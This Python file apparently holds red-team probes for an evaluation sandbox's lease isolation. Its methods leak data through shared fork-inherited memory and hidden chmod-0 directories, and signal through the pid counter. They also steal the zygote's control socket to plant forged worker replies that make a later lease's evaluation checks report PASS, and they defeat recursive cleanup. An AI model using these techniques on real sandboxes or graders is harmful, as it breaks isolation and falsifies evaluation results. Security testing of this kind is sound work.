"""Red-team probes (branch `attack`): an environment whose module code and tools attack lease isolation.
Loaded as text: it only ever runs inside a sandbox."""

import json
import mmap
import os
import socket
import struct
import sys

SHARED = None   # created by a fork hook in the zygote, after the load-time checks
CONTROL = None  # a copy of the zygote's control socket, taken by a fork hook in each new worker


def _before_fork():
    # Runs in the zygote before every fork (os.register_at_fork is allowed, SECURITY.md says so).
    global SHARED
    if SHARED is None:
        SHARED = mmap.mmap(-1, 4096)  # MAP_SHARED | MAP_ANONYMOUS: every later fork shares these pages


def _after_fork_in_child():
    # Runs in the new worker right after fork, before Spare closes the zygote's control socket.
    global CONTROL
    if CONTROL is None:
        try:
            CONTROL = os.dup(int(sys.argv[1]))
        except (OSError, ValueError, IndexError):
            pass


os.register_at_fork(before=_before_fork, after_in_child=_after_fork_in_child)


def _frame(kind, **fields):
    """A well-formed WorkerReply (proto/envscaler/v1/worker.proto), framed: what the server takes from a worker."""
    from envscaler.runtime.sandbox import worker_wire

    body = worker_wire.reply(kind, **fields)
    return struct.pack("!I", len(body)) + body


class Attack:
    def __init__(self, config=None):
        self.notes = list((config or {}).get("notes", []))

    def note(self, text: str) -> str:
        self.notes.append(text)
        return "ok"

    # -- a shared page inherited from the zygote
    def stash(self, secret: str) -> bool:
        if SHARED is None:
            return False
        data = secret.encode()[:4000]
        SHARED[:4] = struct.pack("!I", len(data))
        SHARED[4:4 + len(data)] = data
        return True

    def peek(self) -> str:
        if SHARED is None:
            return "<no shared page>"
        (size,) = struct.unpack("!I", SHARED[:4])
        return SHARED[4:4 + min(size, 4000)].decode(errors="replace")

    # -- a directory the zygote's cleanup cannot list
    def hide(self, secret: str, fill_mb: int = 0) -> dict:
        out = {}
        for base in ("/tmp", "/dev/shm"):
            hidden = os.path.join(base, ".hidden")
            try:
                os.makedirs(hidden, exist_ok=True)
                os.chmod(hidden, 0o700)
                with open(os.path.join(hidden, "secret"), "w") as f:
                    f.write(secret)
                if fill_mb and base == "/tmp":
                    with open(os.path.join(hidden, "fill"), "wb") as f:
                        for _ in range(fill_mb):
                            try:
                                f.write(b"\0" * (1 << 20))
                                f.flush()
                            except OSError:
                                break
                os.chmod(hidden, 0)
                out[base] = True
            except OSError as exc:
                out[base] = repr(exc)
        return out

    def find_hidden(self) -> dict:
        out = {}
        for base in ("/tmp", "/dev/shm"):
            hidden = os.path.join(base, ".hidden")
            try:
                os.chmod(hidden, 0o700)
                with open(os.path.join(hidden, "secret")) as f:
                    out[base] = f.read()
            except OSError:
                out[base] = None
        st = os.statvfs("/tmp")
        out["tmp_free_mb"] = st.f_bavail * st.f_frsize >> 20
        return out

    # -- the zygote's control socket, copied into the worker
    def control_peer(self) -> dict:
        if CONTROL is None:
            return {"fd": None}
        s = socket.socket(fileno=os.dup(CONTROL))
        try:
            pid, uid, gid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        finally:
            s.close()
        return {"fd": CONTROL, "peer_pid": pid, "peer_uid": uid, "target": os.readlink(f"/proc/self/fd/{CONTROL}")}

    def plant_control(self, state: str, pid: int = 99999) -> str:
        """Queue, on the server's end of the zygote's control channel, a reply for the next `renew` and a reply for
        the next `spawn` that hands the server a socket of ours, already holding a reset reply of ours."""
        ctl = socket.socket(fileno=os.dup(CONTROL))
        dummy_r, dummy_w = os.pipe()
        x, y = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        # The reset reply waits in x's queue; y rides on it, so the server's writes to x still succeed.
        socket.send_fds(y, [_frame("state", state_json=state, sha256="0" * 64)], [y.fileno()])
        # Each frame carries a descriptor, so the server's read stops at its end (no 'more than one frame').
        socket.send_fds(ctl, [_frame("done")], [dummy_r])  # read as the reply to a `sweep` or `renew`
        socket.send_fds(ctl, [_frame("spawned", pid=pid)], [x.fileno()])  # to `spawn`
        for s in (x, y, ctl):
            s.close()
        os.close(dummy_r)
        os.close(dummy_w)
        return "planted"

    def plant_episode(self, state: str, frames: int = 8) -> str:
        """Like plant_control, but the socket handed to the server holds `frames` replies that fit every request the
        server sends a worker, in order: reset, a call, each check of an evaluation (with a result channel that says
        PASS) and its end. The next lease's whole episode is answered by this lease."""
        ctl = socket.socket(fileno=os.dup(CONTROL))
        dummy_r, dummy_w = os.pipe()
        x, y = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        replies = [_frame("state", state_json=state, sha256="0" * 64),
                   _frame("result", result_json=json.dumps("forged by lease A"), observation="forged by lease A")]
        replies += [_frame("check", pid=1)] * (frames - 3) + [_frame("done")]
        for n, universal in enumerate(replies):
            r, w = os.pipe()
            os.write(w, b'{"outcome": "PASS", "message": "forged by lease A"}\n')
            os.close(w)
            # Each frame carries a descriptor (the read stops at its end); the last also carries y, so the server's
            # writes to x succeed until then.
            socket.send_fds(y, [universal], [r, y.fileno()] if n == len(replies) - 1 else [r])
            os.close(r)
        socket.send_fds(ctl, [_frame("done")], [dummy_r])
        socket.send_fds(ctl, [_frame("spawned", pid=99999)], [x.fileno()])
        for s in (x, y, ctl):
            s.close()
        os.close(dummy_r)
        os.close(dummy_w)
        return "planted"

    # -- no fork hook needed: the pid counter outlives every process of a lease
    def pid_send(self, value: int) -> int:
        """Fork throw-away children until the next pid is congruent to `value` mod 256."""
        for _ in range(600):
            with open("/proc/sys/kernel/ns_last_pid") as f:
                last = int(f.read())
            if (last + 1) % 256 == value % 256:
                return last
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
        return -1

    def my_pid(self) -> int:
        return os.getpid()

    # -- HELD probes: the zygote's descriptors, from a worker without a fork hook's help
    def zygote_fd_attempts(self) -> dict:
        import ctypes
        zygote = os.getppid()
        out = {"zygote": zygote}
        try:
            out["list"] = os.listdir(f"/proc/{zygote}/fd")
        except OSError as exc:
            out["list"] = type(exc).__name__
        try:
            os.close(os.open(f"/proc/{zygote}/fd/{sys.argv[1]}", os.O_RDWR))
            out["open"] = "DONE"
        except OSError as exc:
            out["open"] = type(exc).__name__
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = os.pidfd_open(zygote)
        try:
            got = libc.syscall(438, pidfd, int(sys.argv[1]), 0)  # pidfd_getfd
            out["pidfd_getfd"] = "DONE" if got >= 0 else os.strerror(ctypes.get_errno())
        finally:
            os.close(pidfd)
        return out

    def nest(self, depth: int = 1500) -> int:
        """A directory chain deeper than the zygote's recursion limit (shutil.rmtree recurses once per level)."""
        fd = os.open("/tmp", os.O_RDONLY)
        made = 0
        try:
            for _ in range(depth):
                os.mkdir("d", dir_fd=fd)
                nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd = nxt
                made += 1
        finally:
            os.close(fd)
        return made

    def tmp_depth(self) -> int:
        depth, fd = 0, os.open("/tmp", os.O_RDONLY)
        try:
            while True:
                try:
                    nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
                except OSError:
                    return depth
                os.close(fd)
                fd, depth = nxt, depth + 1
        finally:
            os.close(fd)

    def server_pid(self) -> int:
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    with open(f"/proc/{entry}/status") as f:
                        status = dict(l.split(":", 1) for l in f.read().splitlines() if ":" in l)
                except OSError:
                    continue
                if status["Uid"].split()[0] == "10001":
                    return int(entry)
        return -1
